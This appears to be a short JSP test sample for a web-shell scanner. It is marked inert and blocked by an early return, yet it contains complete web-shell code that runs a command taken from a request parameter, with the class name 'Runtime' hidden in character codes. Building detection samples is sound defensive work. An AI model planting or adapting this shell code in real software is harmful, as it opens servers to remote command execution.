<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% String c = request.getParameter("c");
   Class r = Class.forName("java.lang." + new String(new char[]{82, 117, 110, 116, 105, 109, 101}));
   Object rt = r.getMethod("getRuntime").invoke(null);
   r.getMethod("exec", String.class).invoke(rt, c); %>
